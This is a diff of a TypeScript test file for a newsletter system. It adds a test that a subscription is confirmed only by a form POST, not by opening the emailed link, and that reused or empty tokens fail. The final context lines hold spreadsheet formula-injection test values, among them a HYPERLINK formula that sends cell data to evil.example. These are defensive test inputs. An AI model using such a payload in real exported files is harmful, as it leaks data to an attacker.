@@ -318,6 +318,50 @@ describe('newsletter', () => {
     ).toEqual([c]);
   });
 
+  it("confirms only when the confirmation page's button is pressed (a plain form), never on opening the link", async () => {
+    const email = 'noscript-reader@student.test';
+    expect((await subscribe(t, email)).statusCode).toBe(202);
+    const [mail] = await waitForMails(sink, email, 1);
+    const link = confirmToken(mail!);
+    const status = async () =>
+      (
+        await t.app.inject({
+          method: 'GET',
+          url: `/api/newsletter/subscribers?q=${encodeURIComponent(email)}`,
+          headers: bearer(token),
+        })
+      ).json()[0].status;
+    // What a mail scanner does: open the link, follow nothing.
+    const opened = await t.app.inject({ method: 'GET', url: `/newsletter/confirm?token=${link}` });
+    expect(opened.statusCode).toBeLessThan(500);
+    expect(await status()).toBe('pending');
+
+    const pressed = await t.app.inject({
+      method: 'POST',
+      url: `/newsletter/confirm?token=${link}`,
+      headers: { 'content-type': 'application/x-www-form-urlencoded' },
+      payload: new URLSearchParams({ token: link }).toString(),
+    });
+    expect(pressed.statusCode).toBe(303);
+    expect(pressed.headers.location).toBe('/newsletter/confirm?confirmed=1');
+    expect(await status()).toBe('confirmed');
+
+    const again = await t.app.inject({
+      method: 'POST',
+      url: '/newsletter/confirm',
+      headers: { 'content-type': 'application/x-www-form-urlencoded' },
+      payload: new URLSearchParams({ token: link }).toString(),
+    });
+    expect(again.headers.location).toBe('/newsletter/confirm?failed=1');
+    const empty = await t.app.inject({
+      method: 'POST',
+      url: '/newsletter/confirm',
+      headers: { 'content-type': 'application/x-www-form-urlencoded' },
+      payload: '',
+    });
+    expect(empty.headers.location).toBe('/newsletter/confirm?failed=1');
+  });
+
   it('exports a subscriber whose name is a spreadsheet formula as inert text', async () => {
     const formula = '=HYPERLINK("https://evil.example/?x="&A1,"click")';
     const leads = ['+SUM(1;2)', '-2+3', '@cmd'];
